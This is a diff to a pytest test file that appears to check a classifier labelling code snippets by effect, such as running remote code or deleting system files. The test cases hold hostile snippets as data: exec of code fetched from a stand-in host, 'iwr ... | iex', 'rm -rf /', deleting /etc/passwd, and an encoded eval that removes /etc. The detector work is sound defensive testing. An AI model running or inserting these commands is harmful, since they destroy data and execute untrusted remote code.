@@ -108,8 +108,8 @@ def test_python(text: str, effects: list[str], shell: list[str]) -> None:
 @pytest.mark.parametrize(
     ("text", "effects"),
     [
-        ("import urllib.request as u; exec(u.urlopen('http://x.example').read())", ["run-remote:unknown"]),
-        ("import requests; exec(requests.get('http://x.example').text)", ["run-remote:unknown"]),
+        ("import urllib.request as u; exec(u.urlopen('http://x.example').read())", ["run-remote:remote"]),
+        ("import requests; exec(requests.get('http://x.example').text)", ["run-remote:remote"]),
         ("import os, requests; os.system(requests.get('http://x.example').text)", ["run-remote:remote"]),
         ("import marshal; exec(marshal.loads(b'abc'))", ["run-opaque:unknown"]),
         ("import sys; exec(sys.stdin.read())", ["run-opaque:unknown"]),
@@ -148,7 +148,7 @@ def test_temporary_folders_are_known() -> None:
         ("node", "require('child_process').execSync('rm -rf /')", [], ["rm -rf /"]),
         ("node", "const {exec} = require('child_process'); exec('rm -rf ' + '/')", [], ["rm -rf /"]),
         ("node", "require('child_process').spawnSync('rm', ['-rf', '/'])", [], ["rm -rf /"]),
-        ("node", "eval(atob('ZnMucm1TeW5jKCcvZXRjJywge3JlY3Vyc2l2ZTogdHJ1ZX0p'))", ["delete:system"], []),
+        ("node", "eval(atob('ZnMucm1TeW5jKCcvZXRjJywge3JlY3Vyc2l2ZTogdHJ1ZX0p'))", ["run-opaque:unknown", "delete:system"], []),
         ("ruby", "File.delete('/etc/passwd')", ["delete:system:light"], []),
         ("ruby", "require 'fileutils'; FileUtils.rm_rf '/etc'", ["delete:system"], []),
         ("ruby", "system('rm -rf /')", [], ["rm -rf /"]),
@@ -208,7 +208,7 @@ def test_other_languages(language: str, text: str, effects: list[str], shell: li
         ("node", "eval(process.argv[1])", ["run-opaque:unknown"]),
         ("php", "eval(base64_decode($_POST['x']));", ["run-opaque:unknown"]),
         ("php", "eval(file_get_contents('http://x.example'));", ["run-remote:remote"]),
-        ("pwsh", "iwr http://x.example | iex", ["run-remote:unknown"]),
+        ("pwsh", "iwr http://x.example | iex", ["run-remote:remote"]),
         ("cobol", "DISPLAY 'x'", []),
     ],
 )
